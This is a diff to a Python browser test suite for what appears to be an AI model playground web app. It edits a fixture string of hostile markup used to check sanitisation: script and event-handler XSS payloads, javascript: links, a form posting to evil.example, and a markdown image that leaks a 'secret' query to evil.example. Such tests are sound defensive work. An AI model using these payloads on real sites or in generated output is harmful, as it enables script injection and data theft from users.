@@ -18,7 +18,9 @@ PAGES = ("now", "targets", "usage", "playground", "keys")
 HOSTILE = """<img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3))
 <svg onload="alert(4)"></svg> <style>body{display:none}</style>
 <form action="https://evil.example/"><input name=q></form>
-![secret](https://evil.example/?q=secret) <a href="https://ok.example/" onclick="alert(5)">fine</a>"""
+![secret](https://evil.example/?q=secret) <b onclick="alert(5)">x</b>
+
+[fine](https://ok.example/)"""
 
 
 def say(text: str) -> dict[str, Any]:
@@ -96,7 +98,10 @@ async def test_two_models_side_by_side(stage: Stage, browser: Browser) -> None:
         await looker.sign_in(stage.url, secret, "playground")
         await looker.page.get_by_role("button", name="Two side by side").click()
         await send(looker, "hello")
-        first, second = looker.page.get_by_label("Conversation 1"), looker.page.get_by_label("Conversation 2")
+        first, second = (
+            looker.page.get_by_role("region", name="Conversation 1"),
+            looker.page.get_by_role("region", name="Conversation 2"),
+        )
         await expect(first.locator(".stats")).to_contain_text("runpod")
         await expect(second.locator(".stats")).to_contain_text("openai")
         await expect(second).to_contain_text("It has been the capital")
